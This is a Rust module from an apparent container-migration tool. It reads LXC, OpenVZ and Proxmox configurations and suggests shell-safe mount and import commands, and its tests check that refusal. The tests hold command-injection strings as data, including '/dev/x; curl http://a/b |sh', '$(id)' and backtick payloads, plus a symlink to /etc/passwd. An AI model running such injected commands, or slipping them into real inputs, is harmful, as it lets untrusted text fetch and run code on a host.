//! A folder of this host that was a container's: of LXC, with its configuration in it, or a private area of
//! OpenVZ, whose configuration lies where it lay there. What is found is read; no path in it is followed.

use std::os::fd::{AsFd as _, OwnedFd};
use std::path::{Path, PathBuf};

use rustix::io::Errno;

use super::archive;
use super::dirfd::{FileError, child_dir, child_file, open_dir, read_limited};
use super::foreign::Told;
use super::foreign_find::CONFIG_MOST;
use super::foreign_words::{named, plain_word};
use super::machine_find::look_inside;
use super::pack_format::PackError;
use super::{foreign_lxc, foreign_openvz, foreign_pve};

/// Where OpenVZ has its configurations, below the folder in which `vz` lies.
const VZ_CONF: &str = "etc/vz/conf";

/// A container's configuration, and what is known by it.
pub(super) struct Beside {
    pub(super) program: &'static str,
    pub(super) told: Told,
    /// Its root, where that is not the folder itself.
    pub(super) root: Option<OwnedFd>,
}

/// A configuration that somebody named, of whichever program.
///
/// # Errors
/// It cannot be read, or is of none of them.
pub fn config_file(path: &Path) -> Result<(&'static str, Told), PackError> {
    let shown = path.display();
    let failed = |why: String| PackError::Newcomer(format!("{shown} {why}"));
    let file = archive::open_regular(path).map_err(failed)?;
    let data =
        read_limited(file, CONFIG_MOST).map_err(|why| failed(format!("cannot be read: {why}")))?;
    let text = String::from_utf8(data).map_err(|_| failed("is no text".into()))?;
    translated(&text).map_err(|why| failed(format!("is not taken: {why}")))
}

fn translated(text: &str) -> Result<(&'static str, Told), String> {
    if foreign_openvz::is_one(text) {
        return Ok(("OpenVZ", foreign_openvz::container(text)?));
    }
    let of_proxmox = |line: &str| {
        let key = line.split(':').next().unwrap_or_default();
        line.contains(':')
            && matches!(
                key,
                "arch" | "hostname" | "memory" | "rootfs" | "ostype" | "cores"
            )
    };
    if text.lines().any(of_proxmox) {
        return Ok(("Proxmox", foreign_pve::container(text)?));
    }
    match foreign_lxc::is_one(text) {
        true => Ok(("LXC", foreign_lxc::container(text)?)),
        false => Err("it is no configuration of a container of OpenVZ, LXC or Proxmox".into()),
    }
}

/// What a folder says of itself, or what is said beside it.
pub(super) fn look(path: &Path, config: Option<&Path>) -> Result<Option<Beside>, PackError> {
    let top = open_dir(path)?;
    let root = child_dir(&top, c"rootfs");
    let is_mounted = root.as_ref().err() == Some(&Errno::XDEV);
    // Below a root that is one itself, folders and files of these names are whatever its tenant made.
    let is_root = look_inside(&top).is_ok();
    let root = root.ok().filter(|_| !is_root);
    if let Some(config) = config {
        let (program, told) = config_file(config)?;
        let root = root.filter(|_| program == "LXC");
        return Ok(Some(Beside {
            program,
            told,
            root,
        }));
    }
    if !is_root && let Ok(file) = child_file(&top, c"config") {
        let shown = path.join("config");
        let data =
            read_limited(file, CONFIG_MOST).map_err(|e| FileError::new("read", &shown, e))?;
        let text = String::from_utf8_lossy(&data);
        if foreign_lxc::is_one(&text) {
            let place = foreign_lxc::root_elsewhere(&text);
            if (place.is_some() || is_mounted)
                && root.as_ref().is_none_or(|root| look_inside(root).is_err())
            {
                return Err(PackError::Newcomer(mount_first(path, place, is_mounted)));
            }
            if root.is_none() {
                return private_area(path);
            }
            let failed = |why: String| PackError::Newcomer(format!("{}: {why}", shown.display()));
            let mut told = foreign_lxc::container(&text).map_err(failed)?;
            if told.name.is_empty() {
                let name = path.file_name().unwrap_or_default();
                told.name = name.to_string_lossy().into_owned();
            }
            return Ok(Some(Beside {
                program: "LXC",
                told,
                root,
            }));
        }
    }
    private_area(path)
}

/// What to do about a container of LXC whose root is a filesystem of its own. What its configuration calls
/// that is a stranger's text: it stands in a command only if it is one word to a shell.
fn mount_first(path: &Path, place: Option<&str>, is_mounted: bool) -> String {
    let (shown, config) = (path.join("rootfs"), path.join("config"));
    let import = |root: &Path| {
        let words = root.to_str().zip(config.to_str());
        let words = words.and_then(|(root, config)| plain_word(root).zip(plain_word(config)));
        match words {
            Some((root, config)) => format!("`bulkhead import --from {root} --config {config}`"),
            None => format!(
                "import {} with --from, and `config` of the container's folder with --config",
                named(&root.to_string_lossy())
            ),
        }
    };
    if is_mounted {
        let what = place.map_or_else(String::new, |place| format!(" ({})", named(place)));
        return format!(
            "its root is a filesystem of its own{what}: {}",
            import(&shown)
        );
    }
    let place = place.unwrap_or_default();
    let (kind, device) = match place.split_once(':') {
        Some((kind, device)) => (Some(kind), device),
        None => (None, place),
    };
    let mount = match (kind, plain_word(device)) {
        (Some("zfs"), Some(dataset)) => format!("`mount -t zfs -o ro,zfsutil {dataset} /mnt`"),
        (Some("lvm" | "loop") | None, Some(device)) => format!("`mount -o ro {device} /mnt`"),
        _ => "mount that read-only at /mnt".to_owned(),
    };
    format!(
        "its root is not in the folder but on {}, and not mounted: stop the container, {mount}, then {}",
        named(place),
        import(Path::new("/mnt"))
    )
}

/// `…/vz/private/101` has its configuration in `…/etc/vz/conf/101.conf`.
fn private_area(path: &Path) -> Result<Option<Beside>, PackError> {
    let Some(place) = conf_of(path) else {
        return Ok(None);
    };
    let shown = place.display().to_string();
    let failed = |why: String| PackError::Newcomer(format!("{shown}: {why}"));
    let folder = open_dir(place.parent().unwrap_or(&place))?;
    let name = place.file_name().unwrap_or_default().as_encoded_bytes();
    let name = super::dirfd::cname(name).map_err(|e| failed(e.to_string()))?;
    let file = child_file(folder.as_fd(), &name).map_err(|e| FileError::new("open", &place, e))?;
    let data = read_limited(file, CONFIG_MOST).map_err(|e| FileError::new("read", &place, e))?;
    let mut told = foreign_openvz::container(&String::from_utf8_lossy(&data)).map_err(failed)?;
    told.note(format!("{shown}: taken as its configuration"));
    Ok(Some(Beside {
        program: "OpenVZ",
        told,
        root: None,
    }))
}

/// Where a private area's configuration is, if it is one and there is one.
fn conf_of(path: &Path) -> Option<PathBuf> {
    let path = path.canonicalize().ok()?;
    let number = path.file_name()?.to_str()?;
    let above = path.parent()?;
    if !number.bytes().all(|b| b.is_ascii_digit()) || above.file_name()? != "private" {
        return None;
    }
    let name = format!("{number}.conf");
    let mut places = above
        .ancestors()
        .skip(1)
        .map(|place| place.join(VZ_CONF).join(&name));
    places.find(|place| place.symlink_metadata().is_ok_and(|meta| meta.is_file()))
}

#[cfg(test)]
mod tests {
    use super::super::seed::tests::TempDir;
    use super::*;

    #[test]
    fn a_private_area_has_its_configuration_where_it_lay() {
        let folder = TempDir::new("foreign");
        let (area, conf) = (
            folder.path().join("vz/private/101"),
            folder.path().join(VZ_CONF),
        );
        std::fs::create_dir_all(&area).unwrap();
        std::fs::create_dir_all(&conf).unwrap();
        assert_eq!(conf_of(&area), None);
        std::os::unix::fs::symlink("/etc/passwd", conf.join("101.conf")).unwrap();
        assert_eq!(conf_of(&area), None);
        std::fs::remove_file(conf.join("101.conf")).unwrap();
        std::fs::write(
            conf.join("101.conf"),
            "VE_ROOT=/vz/root/$VEID\nHOSTNAME=db\nCPUUNITS=1000\n",
        )
        .unwrap();
        assert!(conf_of(&area).unwrap().ends_with("etc/vz/conf/101.conf"));
        let beside = look(&area, None).unwrap().unwrap();
        assert_eq!(
            (beside.program, beside.told.name.as_str()),
            ("OpenVZ", "db")
        );
        let other = folder.path().join("vz/private/x");
        std::fs::create_dir_all(&other).unwrap();
        assert!(look(&other, None).unwrap().is_none());
        let named = look(&other, Some(&conf.join("101.conf"))).unwrap().unwrap();
        assert_eq!(named.told.name, "db");
    }

    #[test]
    fn a_link_is_no_root_of_a_container() {
        let folder = TempDir::new("foreign");
        std::fs::write(folder.path().join("config"), "lxc.uts.name = web\n").unwrap();
        std::os::unix::fs::symlink("/", folder.path().join("rootfs")).unwrap();
        assert!(look(folder.path(), None).unwrap().is_none());
        std::fs::remove_file(folder.path().join("rootfs")).unwrap();
        std::fs::create_dir(folder.path().join("rootfs")).unwrap();
        let beside = look(folder.path(), None).unwrap().unwrap();
        assert!(beside.root.is_some() && beside.told.name == "web");
    }

    #[test]
    fn a_root_on_another_disk_is_to_be_mounted() {
        let folder = TempDir::new("foreign");
        std::fs::create_dir(folder.path().join("rootfs")).unwrap();
        for (place, what) in [
            ("zfs:tank/web", "mount -t zfs -o ro,zfsutil tank/web /mnt"),
            ("lvm:/dev/lxc/web", "mount -o ro /dev/lxc/web /mnt"),
            ("/dev/lxc/web", "mount -o ro /dev/lxc/web /mnt"),
            ("overlay:/a:/b", "mount that"),
        ] {
            let text = format!("lxc.uts.name = web\nlxc.rootfs.path = {place}\n");
            std::fs::write(folder.path().join("config"), text).unwrap();
            let Err(error) = look(folder.path(), None) else {
                panic!("{place}");
            };
            let said = error.to_string();
            assert!(said.contains(what) && said.contains("--config"), "{said}");
        }
        // It is mounted, or was copied there.
        std::fs::create_dir(folder.path().join("rootfs/etc")).unwrap();
        assert!(look(folder.path(), None).unwrap().is_some());
    }

    #[test]
    fn what_a_strangers_text_says_is_no_command() {
        let folder = TempDir::new("foreign");
        let refused = |folder: &Path, place: &str| {
            let text = format!("lxc.uts.name = web\nlxc.rootfs.path = {place}\n");
            std::fs::write(folder.join("config"), text).unwrap();
            look(folder, None).err().unwrap().to_string()
        };
        for place in [
            "/dev/x; curl http://a/b |sh",
            "lvm:/dev/x`id`",
            "zfs:tank/$(id)",
            "zfs:-o/x",
            "loop:/a\u{1b}]0;b",
            "lvm:",
        ] {
            let said = refused(folder.path(), place);
            assert!(said.contains("mount that read-only at /mnt"), "{said}");
            assert!(
                !said.contains("mount -") && !said.contains('\u{1b}'),
                "{said}"
            );
            assert!(said.contains("`bulkhead import --from /mnt"), "{said}");
        }
        // Nor what the folder is called.
        let odd = folder.path().join("a; id");
        std::fs::create_dir(&odd).unwrap();
        let said = refused(&odd, "lvm:/dev/lxc/web");
        assert!(said.contains("`mount -o ro /dev/lxc/web /mnt`"), "{said}");
        assert!(
            !said.contains("; id") && said.contains("with --config"),
            "{said}"
        );
    }

    #[test]
    fn what_lies_in_a_root_says_nothing_of_it() {
        let folder = TempDir::new("foreign");
        let top = folder.path();
        std::fs::write(top.join("config"), "lxc.uts.name = other\n").unwrap();
        std::fs::create_dir_all(top.join("rootfs/etc")).unwrap();
        assert!(look(top, None).unwrap().unwrap().root.is_some());
        std::fs::create_dir(top.join("etc")).unwrap();
        assert!(look(top, None).unwrap().is_none());
        let named = look(top, Some(&top.join("config"))).unwrap().unwrap();
        assert!(named.root.is_none() && named.told.name == "other");
    }

    #[test]
    fn a_configuration_is_known_by_what_it_says() {
        for (text, program) in [
            ("arch: amd64\nrootfs: local:101\n", "Proxmox"),
            ("lxc.uts.name = a\n", "LXC"),
            ("VE_ROOT=\"/vz/root/$VEID\"\n", "OpenVZ"),
        ] {
            assert_eq!(translated(text).unwrap().0, program);
        }
        assert!(translated("root:x:0:0::/root:/bin/sh\n").is_err());
    }
}
